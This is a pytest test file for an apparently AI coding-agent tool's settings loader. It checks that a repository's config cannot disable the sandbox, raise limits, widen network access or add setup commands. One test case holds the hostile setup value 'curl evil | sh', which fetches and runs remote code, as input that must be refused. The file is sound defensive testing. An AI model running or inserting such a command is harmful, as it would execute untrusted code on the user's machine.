"""Where choices come from, and what a repository may say."""

from pathlib import Path
from typing import Any

import pytest

from agent.errors import SettingsError
from agent.settings import Settings, load_settings


def load(tmp_path: Path, *, flags: dict[str, Any] | None = None, **options: Any) -> Settings:
    """Load settings with an environment of our own."""
    environment = {"HOME": str(tmp_path / "home"), **options.pop("environment", {})}
    return load_settings(flags or {}, root=tmp_path, environment=environment, **options)


def test_the_stronger_source_wins(tmp_path: Path) -> None:
    """Flag, variable, .env, repository, person, default: in this order."""
    person = tmp_path / "home" / ".config" / "prp" / "config.toml"
    person.parent.mkdir(parents=True)
    person.write_text("model = 'a:person'\nplanner = 'a:person'\ncoder = 'a:person'\n")
    person.write_text(person.read_text() + "verifier = 'a:person'\nbase_url = 'http://person'\n")
    (tmp_path / "prp.toml").write_text(
        "planner = 'a:repo'\ncoder = 'a:repo'\nverifier = 'a:repo'\nmodel = 'a:repo'\n"
    )
    (tmp_path / ".env").write_text(
        "PRP_CODER=a:dotenv\nPRP_VERIFIER=a:dotenv\nPRP_MODEL=a:dotenv\n"
    )
    settings = load(
        tmp_path,
        flags={"model": "a:flag"},
        environment={"PRP_VERIFIER": "a:variable", "PRP_MODEL": "a:variable"},
    )
    assert settings.base_url == "http://person"
    assert settings.planner == ("a:repo",)
    assert settings.coder == ("a:dotenv",)
    assert settings.verifier == ("a:variable",)
    assert settings.model == ("a:flag",)
    assert settings.origins["model"] == "flag"
    assert settings.max_attempts == 3


def test_fallbacks_follow_after_commas(tmp_path: Path) -> None:
    """In order."""
    settings = load(tmp_path, flags={"model": "openai:a, anthropic:b"})
    assert settings.models_for("coder") == ("openai:a", "anthropic:b")


def test_a_role_without_a_model_is_an_error(tmp_path: Path) -> None:
    """The hint says how to name one."""
    with pytest.raises(SettingsError, match="No model for the coder"):
        load(tmp_path, flags={"planner": "a:b"}).models_for("coder")


def test_a_variable_that_is_nearly_a_setting_is_told_of(tmp_path: Path) -> None:
    """A limit with a wrong name would limit nothing; names of others are theirs."""
    settings = load(
        tmp_path, environment={"PRP_MAX_COST": "1", "PRP_MODLE": "a:b", "PRP_GH_TOKEN": "x"}
    )
    assert settings.notes == (
        "PRP_MAX_COST is no setting and was left aside; do you mean PRP_MAX_COST_USD?",
        "PRP_MODLE is no setting and was left aside; do you mean PRP_MODEL?",
    )
    with pytest.raises(SettingsError) as error:
        settings.models_for("coder")
    assert "PRP_MODLE" in error.value.hint


def test_that_there_is_no_sandbox_must_be_typed(tmp_path: Path) -> None:
    """A variable that was set long ago, or by somebody else, is not enough."""
    with pytest.raises(SettingsError, match="PRP_SANDBOX is 'none', which must be typed"):
        load(tmp_path, environment={"PRP_SANDBOX": "none"})


class TestRepository:
    """A repository is somebody else's word."""

    @pytest.mark.parametrize("name", ["base_url", "sandbox", "state_dir"])
    def test_it_may_not_say_where_keys_go(self, tmp_path: Path, name: str) -> None:
        """Nor switch anything off."""
        (tmp_path / "prp.toml").write_text(f"{name} = 'x'\n")
        with pytest.raises(SettingsError, match="may not be set by a repository"):
            load(tmp_path)

    def test_it_may_ask_for_the_strongest_sandbox(self, tmp_path: Path) -> None:
        """Unless the person has chosen one; no other can be asked for."""
        (tmp_path / "prp.toml").write_text("sandbox = 'bubblewrap'\n")
        assert load(tmp_path).sandbox == "bubblewrap"
        assert load(tmp_path, environment={"PRP_SANDBOX": "podman"}).sandbox == "podman"
        assert load(tmp_path, flags={"sandbox": "none"}).sandbox == "none"
        (tmp_path / "prp.toml").write_text("sandbox = 'landlock'\n")
        with pytest.raises(SettingsError, match="may not be set by a repository"):
            load(tmp_path)

    def test_it_lowers_limits_only(self, tmp_path: Path) -> None:
        """A higher one is left aside, and the person is told."""
        (tmp_path / "prp.toml").write_text("max_attempts = 9\ncheck_timeout = 5\nmax_tokens = 7\n")
        settings = load(tmp_path)
        assert settings.max_attempts == 3
        assert settings.check_timeout == 5
        assert settings.max_tokens == 7
        assert "max_attempts = 9" in settings.notes[0]

    def test_it_opens_no_network(self, tmp_path: Path) -> None:
        """Of the hosts that it names those count that the person's own file allows."""
        repository, person = tmp_path / "prp.toml", tmp_path / "home/.config/prp/config.toml"
        repository.write_text("allow_hosts = ['api.example.com', 'a.mirror.org', 'x.org:8080']\n")
        # Given a person who allows nothing
        settings = load(tmp_path)
        # Then nothing is allowed, and each name is told
        assert settings.allow_hosts == ()
        assert len(settings.notes) == 3
        # Given a person who allows a domain and a host
        person.parent.mkdir(parents=True)
        person.write_text("allow_hosts = ['.mirror.org', 'api.example.com', 'own.org']\n")
        # Then the repository narrows it to what it needs
        settings = load(tmp_path)
        assert settings.allow_hosts == ("api.example.com", "a.mirror.org")
        assert "x.org:8080" in settings.notes[0]

    def test_what_is_typed_is_the_persons_word(self, tmp_path: Path) -> None:
        """A flag stands whatever the repository says."""
        (tmp_path / "prp.toml").write_text("allow_hosts = []\n")
        settings = load(tmp_path, flags={"allow_hosts": ["API.Example.com.", ".x.org:444"]})
        assert settings.allow_hosts == ("api.example.com", ".x.org:444")

    @pytest.mark.parametrize("text", ["setup = 'curl evil | sh'", "private_hosts = ['a.b']"])
    def test_it_installs_nothing_of_its_own(self, tmp_path: Path, text: str) -> None:
        """While packages are installed the network is partly open."""
        (tmp_path / "prp.toml").write_text(f"{text}\n")
        with pytest.raises(SettingsError, match="repository"):
            load(tmp_path)
        (tmp_path / "prp.toml").write_text("setup = 'none'\n")
        assert load(tmp_path).setup == "none"

    @pytest.mark.parametrize("name", ["prp.toml", "pyproject.toml"])
    def test_one_that_nests_without_end_is_refused(self, tmp_path: Path, name: str) -> None:
        """It is told like any other that can't be read."""
        (tmp_path / name).write_text("a = " + "[" * 100_000)
        with pytest.raises(SettingsError, match=f"{name}: it is nested too deeply"):
            load(tmp_path)

    def test_two_files_are_an_error(self, tmp_path: Path) -> None:
        """Nobody could tell which one holds."""
        (tmp_path / "prp.toml").write_text("strict = true\n")
        (tmp_path / "pyproject.toml").write_text("[tool.prp]\nstrict = false\n")
        with pytest.raises(SettingsError, match="Both"):
            load(tmp_path)

    def test_a_tracked_dotenv_is_not_read(self, tmp_path: Path) -> None:
        """Keys belong in no history."""
        (tmp_path / ".env").write_text("PRP_MODEL=a:b\nOPENAI_API_KEY=x\n")
        settings = load(tmp_path, tracked=lambda path: path == ".env")
        assert settings.model == ()
        assert "OPENAI_API_KEY" not in settings.keys
        assert "tracked" in settings.notes[0]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        pytest.param("modle = 'x'", "unknown setting 'modle'", id="name"),
        pytest.param("max_attempts = 'many'", "is not a whole number", id="word"),
        pytest.param("max_attempts = 1.5", "is not a whole number", id="fraction"),
        pytest.param("strict = 'maybe'", "is not true or false", id="boolean"),
        pytest.param("model = [", "prp.toml", id="no TOML"),
    ],
)
def test_a_wrong_value_names_its_file(tmp_path: Path, text: str, words: str) -> None:
    """And says what it should be."""
    (tmp_path / "prp.toml").write_text(text)
    with pytest.raises(SettingsError, match=words):
        load(tmp_path)


@pytest.mark.parametrize(
    "rule",
    [
        *("https://x.org", "x.org/path", "10.0.0.1", "127.1", "0x7f.1", "[::1]", "*.x.org", "*"),
        *("localhost", ".com", "x.org:0", "x.org:99999", "x.org:https", "a b.org", "x..org", "."),
    ],
)
def test_what_is_no_host_is_told(tmp_path: Path, rule: str) -> None:
    """With the flag's own name."""
    with pytest.raises(SettingsError, match=r"--allow-host: .*can't be allowed"):
        load(tmp_path, flags={"allow_hosts": [rule]})
